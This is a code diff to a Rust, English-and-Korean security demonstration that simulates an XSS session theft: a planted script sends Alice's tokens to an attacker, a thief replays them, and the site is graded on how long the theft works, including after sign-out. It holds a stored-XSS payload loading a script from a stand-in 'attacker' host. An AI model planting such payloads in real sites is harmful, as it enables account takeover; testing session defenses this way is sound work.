@@ -3,6 +3,7 @@
 use anyhow::Result;
 use http::Method;
 
+use super::stolen::refused_within;
 use super::{Stage, Verdict, amber, green, red};
 use crate::browser::is;
 use crate::text::say;
@@ -12,50 +13,49 @@ const POST: &str = "<script src=//attacker/steal.js></script>";
 
 pub(super) async fn exfiltrate(stage: &mut Stage) -> Result<Verdict> {
     planted(stage).await?;
-    stage
-        .alice
-        .steals(
-            &mut stage.thief,
-            say(
-                "The script asks for whatever an answer gives to scripts.",
-                "스크립트가 응답에서 얻을 수 있는 것을 모두 요청한다.",
-            ),
-        )
-        .await?;
-    stage.trace.note(
-        "alice",
-        "thief",
-        say(
-            "The script sends all it could reach to the attacker's site.",
-            "스크립트가 얻은 것을 모두 공격자 사이트로 보낸다.",
-        ),
-    );
-    let answer = stage
-        .thief
-        .once(Method::GET, "/me", say("The thief tries what came.", "도둑이 받은 것을 써 본다."))
-        .await?;
-    if !is(&answer, "alice") {
+    robbed(stage).await?;
+    let tries = say("The thief tries what came.", "도둑이 받은 것을 써 본다.");
+    if !is(&stage.thief.once(Method::GET, "/me", tries).await?, "alice") {
         return Ok(green(
             "What a script could read was worth nothing elsewhere.",
             "스크립트가 읽은 것은 다른 곳에서 아무 쓸모가 없었다.",
         ));
     }
     stage.running.ten_minutes().await;
-    let answer = stage
-        .thief
-        .call(Method::GET, "/me", say("Ten minutes later the thief tries again.", "10분 뒤 다시 시도한다."))
-        .await?;
-    Ok(if is(&answer, "alice") {
-        red(
+    let again = say("Ten minutes later the thief tries again.", "10분 뒤 다시 시도한다.");
+    if is(&stage.thief.call(Method::GET, "/me", again).await?, "alice") {
+        return Ok(red(
             "The thief is Alice, on another machine, for as long as it likes.",
             "도둑이 다른 컴퓨터에서 계속 앨리스로 행세한다.",
-        )
-    } else {
-        amber(
-            "The thief is Alice on another machine until an access token expires.",
-            "access 토큰이 만료될 때까지 도둑이 다른 컴퓨터에서 앨리스로 행세한다.",
-        )
+        ));
+    }
+    robbed(stage).await?;
+    stage.alice.sign_out(say("Alice signs out.", "앨리스가 로그아웃한다.")).await?;
+    Ok(match refused_within(stage).await? {
+        Some(_) => amber(
+            "The thief is Alice on another machine until a token expires or her session ends.",
+            "토큰이 만료되거나 세션이 끝날 때까지 도둑이 다른 컴퓨터에서 앨리스로 행세한다.",
+        ),
+        None => amber(
+            "The thief is Alice on another machine until an access token expires, also after she signs out.",
+            "로그아웃한 뒤에도 access 토큰이 만료될 때까지 도둑이 다른 컴퓨터에서 앨리스로 행세한다.",
+        ),
     })
+}
+
+/// The script asks for whatever an answer gives to scripts, and the thief gets all that it reached.
+async fn robbed(stage: &mut Stage) -> Result<()> {
+    let asks = say(
+        "The script asks for whatever an answer gives to scripts.",
+        "스크립트가 응답에서 얻을 수 있는 것을 모두 요청한다.",
+    );
+    stage.alice.steals(&mut stage.thief, asks).await?;
+    let sends = say(
+        "The script sends all it could reach to the attacker's site.",
+        "스크립트가 얻은 것을 모두 공격자 사이트로 보낸다.",
+    );
+    stage.trace.note("alice", "thief", sends);
+    Ok(())
 }
 
 pub(super) async fn act(stage: &mut Stage) -> Result<Verdict> {
